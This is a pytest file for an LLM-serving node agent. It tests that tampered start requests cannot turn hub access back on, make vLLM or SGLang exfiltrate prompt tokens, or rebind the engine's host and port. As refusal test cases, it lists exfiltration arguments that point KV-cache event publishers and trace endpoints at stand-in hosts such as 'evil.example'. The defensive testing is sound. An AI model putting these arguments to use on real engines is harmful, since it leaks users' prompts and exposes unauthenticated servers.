"""Review 7 (real vLLM on a node): what a start request (a tampered controller, a merged catalog
commit) could make a vLLM, SGLang or llama.cpp engine do that the node's owner never allowed:
turn the hub back on, send prompt tokens to another machine, listen somewhere the agent did not
choose; and an unsandboxed vLLM whose IPC socket path was too long to bind."""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from types import ModuleType

import pytest

from llmgw.decide.replica import replica_id
from tests.agent.helpers import SYSTEM_PYTHON, Node, unsandboxed_node, wait_for

PRINT_ENV = "import json, os; print('ENV ' + json.dumps(dict(os.environ)), flush=True)"
ECHO = "import sys; print('ARGS', sys.argv[1:], flush=True)"
UNIX_PATH_MAX = 107  # sun_path is 108 bytes with its NUL
UUID4 = 36  # vLLM names its IPC sockets <TMPDIR>/<uuid4> (get_open_zmq_ipc_path)


def _with(node: Node, engine: str, script: str) -> None:
    node.write_config(engines={**node.settings["engines"], engine: [sys.executable, "-c", script]})


def _refused(node: Node, request: dict) -> str:
    code, answer = node.run("start", {"replica_id": "r", **request})
    if code == 0:
        node.ok("stop", {"replica_id": "r", "grace_seconds": 1})
    assert code != 0 and "refused" in answer, f"started: {request}: {answer}"
    return str(answer["error"])


# ----------------------------------------------------------------------------------------------
# 1. The hub stays off: only the node's owner turns it on.


def test_a_request_cannot_turn_vllms_hub_access_back_on(node: Node) -> None:
    """The agent fetched the weights and starts vLLM offline. With the hub back on, `--tokenizer
    org/repo` (a relative value, "inside the area" to the path check) or an --hf-overrides
    auto_map with --trust-remote-code make vLLM download files and code from the hub."""
    _with(node, "vllm", PRINT_ENV)
    for name in ("HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE"):
        error = _refused(node, {"engine": "vllm", "env": {name: "0"}})
        assert name in error and "engine_env" in error, error
    # The same when the node's owner listed the name in env_allow: the agent's own switches are
    # decided by engine_env, never by a request.
    node.write_config(env_allow=[*node.settings["env_allow"], "HF_HUB_OFFLINE", "VLLM_NO_USAGE_STATS", "DO_NOT_TRACK"])
    for name in ("HF_HUB_OFFLINE", "VLLM_NO_USAGE_STATS", "DO_NOT_TRACK"):
        error = _refused(node, {"engine": "vllm", "env": {name: "0"}})
        assert name in error and "engine_env" in error, error
    node.ok("start", {"replica_id": "hub", "engine": "vllm"})
    log = node.state / "logs" / "engines" / "hub.log"
    line = wait_for(lambda: next((x for x in log.read_text().splitlines() if x.startswith("ENV ")), None))
    node.ok("stop", {"replica_id": "hub", "grace_seconds": 1})
    env = json.loads(line[4:])
    assert env["HF_HUB_OFFLINE"] == "1" and env["TRANSFORMERS_OFFLINE"] == "1"


def test_the_agents_offline_switches_are_not_on_the_default_allow_list(agent_module: ModuleType) -> None:
    """`llmgw validate` reads the default allow-list from the agent: a catalog that sets them fails
    validation, before any node refuses it."""
    owners = {k for values in agent_module.ENGINE_KIND_ENV.values() for k in values} - {"VLLM_HOST_IP"}
    assert {"HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE"} <= owners
    assert not owners & agent_module.DEFAULT_ENV_ALLOW


# ----------------------------------------------------------------------------------------------
# 2. Flags that make an engine exchange with other machines: checked against rpc_peers or refused.

# vLLM 0.32's KV-events publisher (ZmqEventPublisher) CONNECTS to any endpoint that is not a
# wildcard/ipc one, or binds tcp://*, and publishes BlockStored events carrying the token ids of
# every prompt it caches. Its dotted spelling is the same setting.
EXFIL = [
    ["--kv-events-config", json.dumps({"enable_kv_cache_events": True, "publisher": "zmq",
                                        "endpoint": "tcp://203.0.113.9:5557"})],
    ["--kv-events-config.endpoint=tcp://203.0.113.9:5557", "--kv-events-config.enable_kv_cache_events=true"],
    ["--kv-events-config={\"enable_kv_cache_events\":true,\"endpoint\":\"tcp://evil.example:5557\"}"],
    ["--kv-events-config", json.dumps({"enable_kv_cache_events": True, "endpoint": "tcp://*:5557"})],
    ["--kv_events_config.endpoint", "tcp://203.0.113.9:5557"],
    ["--kv-events", json.dumps({"endpoint": "tcp://203.0.113.9:5557"})],  # argparse abbreviation
]


@pytest.mark.parametrize("args", EXFIL, ids=["json", "dotted", "inline", "bind-wildcard", "underscore", "abbrev"])
def test_vllm_cannot_be_told_to_push_prompt_tokens_to_another_machine(node: Node, args: list[str]) -> None:
    _with(node, "vllm", ECHO)
    error = _refused(node, {"engine": "vllm", "args": ["serve", "x", *args]})
    assert "--kv-events-config" in error, error


# The rest of the class: each sends to (or takes from, or listens for) machines a request names.
OTHER_MACHINES = [
    ("vllm", ["--kv-transfer-config", '{"kv_connector":"P2pNcclConnector","kv_ip":"203.0.113.9"}'],
     "--kv-transfer-config"),
    ("vllm", ["--kv-transfer-config.kv_ip=203.0.113.9"], "--kv-transfer-config"),
    ("vllm", ["--ec-transfer-config", '{"ec_connector":"ECExampleConnector"}'], "--ec-transfer-config"),
    ("vllm", ["--otlp-traces-endpoint", "http://203.0.113.9:4317"], "--otlp-traces-endpoint"),
    ("vllm", ["--otlp_traces_endpoint=grpc://203.0.113.9:4317"], "--otlp-traces-endpoint"),
    ("vllm", ["--weight-transfer-config", '{"backend":"nccl"}'], "--weight-transfer-config"),
    ("vllm", ["--grpc-port", "50051"], "--grpc-port"),
    ("vllm", ["--data-parallel-supervisor-port", "9256"], "--data-parallel-supervisor-port"),
    ("vllm", ["-dpm"], "-dpm"),
    ("sglang", ["--kv-events-config", '{"endpoint":"tcp://203.0.113.9:5557"}'], "--kv-events-config"),
    ("sglang", ["--otlp-traces-endpoint", "203.0.113.9:4317"], "--otlp-traces-endpoint"),
    ("sglang", ["--encoder-urls", "http://203.0.113.9:30000"], "--encoder-urls"),
    ("sglang", ["--remote-instance-weight-loader-seed-instance-ip", "203.0.113.9"],
     "--remote-instance-weight-loader-seed-instance-ip"),
    ("sglang", ["--disaggregation-bootstrap-port", "8998"], "--disaggregation-bootstrap-port"),
]


@pytest.mark.parametrize(("engine", "args", "flag"), OTHER_MACHINES, ids=[f"{e}{a[0]}" for e, a, _ in OTHER_MACHINES])
def test_flags_that_talk_to_other_machines_are_refused(node: Node, engine: str, args: list[str], flag: str) -> None:
    _with(node, engine, ECHO)
    error = _refused(node, {"engine": engine, "args": ["serve", "x", *args]})
    assert flag in error and "every node" in error, error


def test_a_path_flag_does_not_take_a_url(node: Node) -> None:
    """A path flag's value is a path: s3:// or https:// would make the engine fetch its model or
    tokenizer from another machine, where the relative-path check saw a name inside the area."""
    _with(node, "vllm", ECHO)
    for args in (["--model", "s3://bucket/model"], ["--tokenizer=https://203.0.113.9/tok"]):
        error = _refused(node, {"engine": "vllm", "args": ["serve", *args]})
        assert "URL" in error, error


# ----------------------------------------------------------------------------------------------
# 3. An engine listens where the node says, on the port the agent chose.

BASE = ["serve", "x", "--served-model-name", "m", "--host", "{host}", "--port", "{port}"]


def test_a_request_cannot_move_vllm_off_the_nodes_bind_address(node: Node) -> None:
    """vLLM keeps the last --host: a catalog's `--host 0.0.0.0` puts an unauthenticated vLLM (its
    /v1 and /metrics) on every interface, past the router's keys and limits; `--port 22` a port the
    agent did not pick."""
    _with(node, "vllm", ECHO)
    for extra in (["--host", "0.0.0.0"], ["--host=::"], ["--port", "22"], ["--port=22"], ["--ho", "0.0.0.0"],
                  ["--por=22"], ["--host", "127.0.0.1 "]):
        error = _refused(node, {"engine": "vllm", "args": [*BASE, *extra]})
        assert ("--host" in error and "bind_address" in error) or ("--port" in error and "port_range" in error), error


@pytest.mark.parametrize("engine", ["sglang", "llama.cpp"])
def test_sglang_and_llama_server_are_held_to_the_nodes_address_too(node: Node, engine: str) -> None:
    """llama-server's --host also takes a unix socket path (x.sock): neither moves it either."""
    _with(node, engine, ECHO)
    for extra in (["--host", "0.0.0.0"], ["--host=/tmp/x.sock"], ["--port", "22"]):
        _refused(node, {"engine": engine, "args": ["--host", "{host}", "--port", "{port}", *extra]})


def test_the_agents_own_host_and_port_start(node: Node) -> None:
    _with(node, "vllm", ECHO)
    started = node.ok("start", {"replica_id": "ok", "engine": "vllm",
                                "args": [*BASE, "--host=127.0.0.1", "--port={port}"]})
    log = node.state / "logs" / "engines" / "ok.log"
    line = wait_for(lambda: next((x for x in log.read_text().splitlines() if x.startswith("ARGS")), None))
    node.ok("stop", {"replica_id": "ok", "grace_seconds": 1})
    assert f"'--port={started['port']}'" in line, line


# ----------------------------------------------------------------------------------------------
# 4. Without a sandbox, vLLM's IPC sockets fit whatever the replica id.

LONG_ID = replica_id("meta-llama/Llama-3.1-8B-Instruct-abliterated-uncensored-awq-marlin-4bit-v2", 12)


def test_an_unsandboxed_vllms_ipc_socket_path_fits_whatever_the_replica_id(agent_module: ModuleType) -> None:
    m = agent_module
    cfg = m.NodeConfig(path="/etc/llmgw/agent.json", cache_dir="/var/cache/llmgw", state_dir="/var/lib/llmgw",
                       model_dirs=(), port_range=(8100, 8199), advertise_address="10.0.0.5",
                       bind_address="10.0.0.5", engines={"vllm": ("/opt/vllm/bin/vllm",)}, gpus=(),
                       mounts_file="/proc/mounts", hostname="n1", sandbox="none", engine_user="llmgw-engine")
    conf = m.Confinement(user="llmgw-engine", uid=999, gid=999, groups=(999,), sandbox="none", detail="")
    spec = m.StartSpec(replica_id=LONG_ID, engine="vllm", args=(), env={}, gpus=(), port=None, weights=None,
                       labels={})
    env = m.engine_environment(cfg, conf, spec, m.engine_area(cfg, LONG_ID))
    socket_path = f"{env['TMPDIR']}/{'0' * UUID4}"
    assert len(socket_path.encode()) <= UNIX_PATH_MAX, socket_path
    other = m.engine_environment(cfg, conf, m.StartSpec(**{**spec.__dict__, "replica_id": LONG_ID + "x"}), "/a")
    assert other["TMPDIR"] != env["TMPDIR"]  # each engine its own


BIND = """\
import os, socket, uuid
path = os.path.join(os.environ["TMPDIR"], str(uuid.uuid4()))
s = socket.socket(socket.AF_UNIX); s.bind(path)
print("BOUND", len(path), os.stat(os.environ["TMPDIR"]).st_mode & 0o777, flush=True)
"""


@pytest.fixture
def open_node(node: Node) -> Iterator[Node]:
    with unsandboxed_node(node, {"vllm": [SYSTEM_PYTHON, "-c", BIND]}, prefix="llmgw-v-") as moved:
        yield moved


def test_an_unsandboxed_engine_binds_its_socket_with_the_longest_replica_id(open_node: Node) -> None:
    open_node.ok("start", {"replica_id": LONG_ID, "engine": "vllm"})
    log = open_node.state / "logs" / "engines" / f"{LONG_ID}.log"
    line = wait_for(lambda: next((x for x in log.read_text().splitlines() if x.startswith(("BOUND", "Trace"))),
                                 None))
    open_node.ok("stop", {"replica_id": LONG_ID, "grace_seconds": 1})
    assert line.startswith("BOUND") and line.endswith(" 448"), log.read_text()  # 0700, the engine user's


def test_an_unsandboxed_vllm_under_a_too_deep_state_dir_is_refused_naming_state_dir(open_node: Node) -> None:
    deep = open_node.root / ("d" * 60) / "state"
    deep.mkdir(parents=True)
    for path in (deep.parent, deep):
        path.chmod(0o755)
    open_node.write_config(state_dir=str(deep))
    code, answer = open_node.run("start", {"replica_id": "v", "engine": "vllm"})
    assert code != 0 and answer.get("refused") == {"setting": "state_dir"} and str(deep) in answer["error"], answer
